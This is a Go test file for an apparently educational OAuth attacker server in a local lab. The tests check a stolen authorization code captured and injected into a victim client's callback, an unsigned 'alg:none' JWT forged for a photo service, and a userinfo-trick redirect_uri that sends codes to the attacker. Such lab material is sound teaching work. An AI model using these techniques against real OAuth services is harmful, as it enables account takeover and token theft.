package web

import (
	"encoding/base64"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"
)

// fakePhotos stands in for Photos: it records the bearer tokens it is sent and accepts none.
type fakePhotos struct {
	mu     sync.Mutex
	tokens []string
}

func startAttacker(t *testing.T) (*httptest.Server, *fakePhotos) {
	t.Helper()
	photos := &fakePhotos{}
	ps := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		photos.mu.Lock()
		photos.tokens = append(photos.tokens, strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer "))
		photos.mu.Unlock()
		w.WriteHeader(http.StatusUnauthorized)
		json.NewEncoder(w).Encode(map[string]string{"error": "invalid_token", "error_description": "fake photos says no"})
	}))
	t.Cleanup(ps.Close)
	cfg := Config{PublicURL: "http://localhost:9666", AccountsURL: "http://localhost:9001", PhotosURL: "http://localhost:9002",
		PrintShopURL: "http://localhost:9000", AccountsBackChannel: "http://127.0.0.1:1", PhotosBackChannel: ps.URL}
	h, err := NewServer(slog.New(slog.NewTextHandler(io.Discard, nil)), cfg)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)
	return srv, photos
}

func get(t *testing.T, rawURL string) string {
	t.Helper()
	client := &http.Client{Timeout: 5 * time.Second}
	resp, err := client.Get(rawURL)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return string(b)
}

func TestStolenCodeIsShownAndInjectable(t *testing.T) {
	srv, _ := startAttacker(t)
	get(t, srv.URL+"/steal?code=alice-code-123&state=x&iss=http://localhost:9001")
	if home := get(t, srv.URL+"/"); !strings.Contains(home, "alice-code-123") || !strings.Contains(home, `href="http://localhost:9000/flow"`) {
		t.Fatalf("the loot page does not show the code and the victim's /flow:\n%s", home)
	}
	client := &http.Client{Timeout: 5 * time.Second, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := client.Get(srv.URL + "/inject?state=bobs-state")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	u, _ := url.Parse(resp.Header.Get("Location"))
	if u.Host != "localhost:9000" || u.Path != "/callback" || u.Query().Get("code") != "alice-code-123" || u.Query().Get("state") != "bobs-state" {
		t.Fatalf("inject redirects to %s, want PrintShop's callback with the stolen code and the given state", u)
	}
}

// TestForgedTokenIsUnsignedRFC7519Section6 checks the forged token is an Unsecured JWT, tried
// at Photos as a bearer token.
func TestForgedTokenIsUnsignedRFC7519Section6(t *testing.T) {
	srv, photos := startAttacker(t)
	client := &http.Client{Timeout: 5 * time.Second}
	resp, err := client.PostForm(srv.URL+"/forge/unsigned", url.Values{"sub": {"alice"}})
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	photos.mu.Lock()
	defer photos.mu.Unlock()
	if len(photos.tokens) != 1 {
		t.Fatalf("Photos got %d tokens, want 1", len(photos.tokens))
	}
	parts := strings.Split(photos.tokens[0], ".")
	if len(parts) != 3 || parts[2] != "" {
		t.Fatalf("token %q is not header.payload. with an empty signature", photos.tokens[0])
	}
	header, _ := base64.RawURLEncoding.DecodeString(parts[0])
	if !strings.Contains(string(header), `"alg":"none"`) {
		t.Fatalf("header %s does not say alg none", header)
	}
}

func TestTrapUsesTheUserinfoTrickRFC3986Section3_2_1(t *testing.T) {
	srv, _ := startAttacker(t)
	home := get(t, srv.URL+"/")
	want := url.QueryEscape("http://localhost:9000@localhost:9666/steal")
	if !strings.Contains(home, want) {
		t.Fatalf("the trap link has no redirect_uri %s", want)
	}
	redirect, _ := url.Parse("http://localhost:9000@localhost:9666/steal")
	if redirect.Host != "localhost:9666" || !strings.HasPrefix(redirect.String(), "http://localhost:9000") {
		t.Fatalf("the trick does not send the browser to the attacker: host %s", redirect.Host)
	}
}
